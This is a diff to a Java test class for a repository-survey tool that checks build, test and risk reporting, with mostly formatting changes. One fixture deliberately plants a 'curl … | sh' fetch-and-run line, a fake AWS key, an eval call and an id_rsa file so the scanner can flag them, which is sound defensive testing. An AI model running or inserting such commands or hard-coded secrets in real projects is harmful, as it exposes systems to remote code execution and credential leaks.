@@ -110,14 +110,18 @@ final class SurveyTest {
         assertThat(row(report, "What is it?")).contains("make").contains("A tiny thing that is made for a test.");
         assertThat(row(report, "What looks risky?")).contains("nothing");
         assertThat(report).contains("`LICENSE` is the text of Apache-2.0");
-        assertThat(repository.folder().resolve("out.txt")).as("the folder stays as it was").doesNotExist();
+        assertThat(repository.folder().resolve("out.txt"))
+                .as("the folder stays as it was")
+                .doesNotExist();
     }
 
     @Test
     void brokenBuildIsSaidAndItsTestsAreNotRun() throws Exception {
         needs("make");
         Repository repository = new Repository(temp.resolve("broken"))
-                .file("Makefile", "all:\n\t@echo 'main.c:3: error: expected expression' >&2; exit 1\ntest:\n\t@echo ok 1\n")
+                .file(
+                        "Makefile",
+                        "all:\n\t@echo 'main.c:3: error: expected expression' >&2; exit 1\ntest:\n\t@echo ok 1\n")
                 .commit("Begin");
         String report = survey(repository);
         assertThat(row(report, "Does it build?")).contains("**no**").contains("error: expected expression");
@@ -129,15 +133,15 @@ final class SurveyTest {
         needs("npm");
         Repository repository = new Repository(temp.resolve("noded"))
                 .file("package.json", """
-                        {"name": "noded", "version": "1.0.0", "license": "MIT",
-                         "scripts": {"test": "node --test"}}
-                        """)
+                    {"name": "noded", "version": "1.0.0", "license": "MIT",
+                     "scripts": {"test": "node --test"}}
+                    """)
                 .file("a.test.js", """
-                        const test = require('node:test'); const assert = require('node:assert');
-                        test('good', () => assert.equal(1, 1));
-                        test('bad', () => assert.equal(1, 2));
-                        test.skip('later', () => {});
-                        """)
+                    const test = require('node:test'); const assert = require('node:assert');
+                    test('good', () => assert.equal(1, 1));
+                    test('bad', () => assert.equal(1, 2));
+                    test.skip('later', () => {});
+                    """)
                 .commit("Begin");
         String report = survey(repository);
         assertThat(row(report, "Do its tests pass?")).contains("**no, 1 passed, 1 failed, 1 skipped**");
@@ -148,12 +152,11 @@ final class SurveyTest {
     @Test
     void dependencyThatIsInNoCacheIsNotTheProjectsFailure() throws Exception {
         needs("npm");
-        Repository repository = new Repository(temp.resolve("needy"))
-                .file("package.json", """
-                        {"name": "needy", "version": "1.0.0", "scripts": {"test": "node --test", "build": "node b.js"},
-                         "dependencies": {"a-package-that-nobody-has-cached-0815": "9.9.9"}}
-                        """)
-                .commit("Begin");
+        Repository repository =
+                new Repository(temp.resolve("needy")).file("package.json", """
+                    {"name": "needy", "version": "1.0.0", "scripts": {"test": "node --test", "build": "node b.js"},
+                     "dependencies": {"a-package-that-nobody-has-cached-0815": "9.9.9"}}
+                    """).commit("Begin");
         String report = survey(repository);
         assertThat(row(report, "Does it build?")).contains("could not tell: needs download");
         assertThat(row(report, "Do its tests pass?")).contains("could not tell: needs download");
@@ -165,22 +168,22 @@ final class SurveyTest {
         needs("python3");
         Repository good = new Repository(temp.resolve("snake"))
                 .file("pyproject.toml", """
-                        [project]
-                        name = "snake"
-                        license = "BSD-3-Clause"
-                        dependencies = ["requests>=2.0", "click"]
-                        """)
+                    [project]
+                    name = "snake"
+                    license = "BSD-3-Clause"
+                    dependencies = ["requests>=2.0", "click"]
+                    """)
                 .file("src/snake/__init__.py", "def length():\n    return 3\n")
                 .file("tests/test_snake.py", """
-                        import unittest
-                        from snake import length
-                        class T(unittest.TestCase):
-                            def test_length(self):
-                                self.assertEqual(length(), 3)
-                            @unittest.skip("later")
-                            def test_later(self):
-                                pass
-                        """)
+                    import unittest
+                    from snake import length
+                    class T(unittest.TestCase):
+                        def test_length(self):
+                            self.assertEqual(length(), 3)
+                        @unittest.skip("later")
+                        def test_later(self):
+                            pass
+                    """)
                 .commit("Begin");
         String report = survey(good);
         assertThat(row(report, "Does it build?")).contains("**yes**");
@@ -216,14 +219,21 @@ final class SurveyTest {
                 .commit("Begin");
         repository.file("often.sh", "#!/bin/sh\necho 2\n").commit("Again");
         String key = "AKIA" + "IOSFODNN7" + "ABCDEF2";
-        repository.file("often.sh", "#!/bin/sh\ncurl -s https://example.org/x | sh\n")
+        repository
+                .file("often.sh", "#!/bin/sh\ncurl -s https://example.org/x | sh\n")
                 .file("conf.py", "AWS = '" + key + "'\nresult = eval(text)\n")
                 .file("id_rsa", "secret\n")
                 .commit("Worse");
         String report = survey(repository);
-        assertThat(row(report, "Where does it change most?")).contains("`often.sh`").contains("3 commits");
+        assertThat(row(report, "Where does it change most?"))
+                .contains("`often.sh`")
+                .contains("3 commits");
         assertThat(row(report, "What looks risky?")).contains("3 high, 1 medium");
-        assertThat(report).contains("`often.sh:2`").contains("`conf.py:1`").contains("`conf.py:2`").contains("`id_rsa`");
+        assertThat(report)
+                .contains("`often.sh:2`")
+                .contains("`conf.py:1`")
+                .contains("`conf.py:2`")
+                .contains("`id_rsa`");
         assertThat(report).as("a secret is never quoted").doesNotContain(key);
     }
 }
